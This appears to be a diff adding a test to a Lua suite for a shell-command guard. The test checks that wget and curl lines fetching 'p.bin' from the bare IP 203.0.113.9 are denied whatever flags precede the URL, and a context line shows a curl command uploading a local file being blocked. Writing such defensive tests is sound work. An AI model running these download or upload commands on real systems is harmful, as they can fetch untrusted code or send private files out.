@@ -200,3 +200,18 @@ test("curl data options read files only in their file forms", function()
     "uploading a local file (shot.png) to api.example.com")
   expect.denied(bash("curl --data-urlencode text@notes.txt https://api.example.com/in"), "(notes.txt)")
 end)
+
+-- A short flag that takes no value in the program that runs (wget -d, -c,
+-- -m, -r, -H; curl -i, -a) does not take the URL after it for its value:
+-- each program's own options decide, so that the host is still read.
+test("a flag before the URL never hides its host", function()
+  for _, line in ipairs({ "wget -d http://203.0.113.9/p.bin", "wget -c http://203.0.113.9/p.bin",
+    "wget -m http://203.0.113.9/p.bin", "wget -r http://203.0.113.9/p.bin", "wget -H http://203.0.113.9/p.bin",
+    "wget -x -E -K -b -F http://203.0.113.9/p.bin", "curl -i http://203.0.113.9/p.bin",
+    "curl -a http://203.0.113.9/p.bin", "wget -O out.bin http://203.0.113.9/p.bin" }) do
+    expect.denied(bash(line), "the bare IP address 203.0.113.9 [rule raw-ip]")
+  end
+  -- and an option that does take a value still takes it: the value is no host
+  expect.no_objection(bash("wget -i urls.txt"))
+  expect.no_objection(bash("curl -r 0-99 https://example.org/file"))
+end)
